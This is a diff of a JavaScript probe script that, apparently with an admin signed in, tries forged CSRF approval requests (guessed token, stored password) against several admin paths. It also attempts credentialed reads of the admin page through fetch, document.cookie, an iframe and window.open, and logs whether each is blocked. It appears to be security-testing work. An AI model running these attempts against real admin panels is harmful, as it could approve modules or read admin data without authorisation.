@@ -3,7 +3,7 @@
 // same site), with the admin signed in to both. Results go to #out as JSON.
 (async function () {
   const cfg = document.getElementById('cfg').dataset;
-  const approve = cfg.admin + '/modules/approve';
+  const approve = cfg.admin + '/admin/modules/approve';
   const form = () => new URLSearchParams({ module: cfg.module, digest: cfg.digest, password: cfg.password, csrf: 'guessed' });
   const out = {};
   const attempt = async (name, fn) => {
@@ -23,20 +23,20 @@
     x.onerror = () => res('network error');
     x.send(form().toString());
   }));
-  await attempt('read the admin page', () => fetch(cfg.admin + '/', { credentials: 'include' }).then((r) => r.text()));
+  await attempt('read the admin page', () => fetch(cfg.admin + '/admin/modules', { credentials: 'include' }).then((r) => r.text()));
   await attempt('document.cookie', () => document.cookie);
   for (const p of ['/admin/modules/approve', '/admin/approve', '/modules/approve', '/admin', '/_websonic/admin/approve']) {
     await attempt('site ' + p, () => fetch(p, { method: 'POST', credentials: 'include', body: form() }).then((r) => 'status ' + r.status));
   }
   await attempt('iframe', () => new Promise((res) => {
     const f = document.createElement('iframe');
-    f.src = cfg.admin + '/';
+    f.src = cfg.admin + '/admin/modules';
     f.onload = () => { try { res('read: ' + f.contentDocument.body.innerHTML); } catch (e) { res('blocked: ' + e.name); } };
     document.body.appendChild(f);
     later(5000, 'no load event').then(res);
   }));
   await attempt('window.open', () => new Promise((res) => {
-    const w = window.open(cfg.admin + '/', 'adminwin');
+    const w = window.open(cfg.admin + '/admin/modules', 'adminwin');
     if (!w) { res('no window'); return; }
     later(2000).then(() => { try { res('read: ' + w.document.body.innerHTML); } catch (e) { res('blocked: ' + e.name); } });
   }));
